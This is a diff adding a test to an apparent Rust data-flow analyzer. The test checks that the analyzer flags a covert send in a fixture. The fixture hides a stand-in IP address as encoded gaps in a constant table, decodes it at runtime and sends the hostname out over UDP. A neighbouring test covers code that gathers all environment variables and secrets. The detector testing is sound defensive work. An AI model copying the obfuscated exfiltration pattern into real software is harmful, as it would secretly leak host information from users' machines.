@@ -129,6 +129,30 @@ def test_the_names_a_let_decodes_inline_hold_what_they_say() -> None:
     ]
 
 
+def test_a_let_making_text_of_what_a_function_that_takes_nothing_yields() -> None:
+    # `String::from_utf8(classes::gaps().collect())`: bytes an iterator computes from a table
+    # (the gaps between size classes), made text where they are bound
+    address = "198.51.100.7:8125"
+    sizes, total = [], 1000
+    for c in address:
+        total += ord(c) * 8
+        sizes.append(total)
+    source = (
+        f"const SPILL: &[usize] = &[1000, {', '.join(map(str, sizes))}];\n"
+        "fn gaps() -> impl Iterator<Item = u8> {\n"
+        "    SPILL.windows(2).map(|w| ((w[1] - w[0]) / 8) as u8)\n"
+        "}\n"
+        "fn flush() {\n"
+        "    let agent = String::from_utf8(gaps().collect()).unwrap_or_default();\n"
+        '    let sock = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();\n'
+        "    let host = hostname::get().unwrap();\n"
+        "    let _ = sock.send_to(host.as_encoded_bytes(), agent.as_str());\n"
+        "}\n"
+    )
+    sent = [(f.sink, f.sources, f.hidden) for f in flows(source) if f.action == "send"]
+    assert sent == [("socket send_to", frozenset({"host-facts"}), True)]
+
+
 def test_the_whole_environment_and_secrets_gathered_by_name() -> None:
     assert sources(
         "fn f() { let all: Vec<_> = std::env::vars().collect(); "
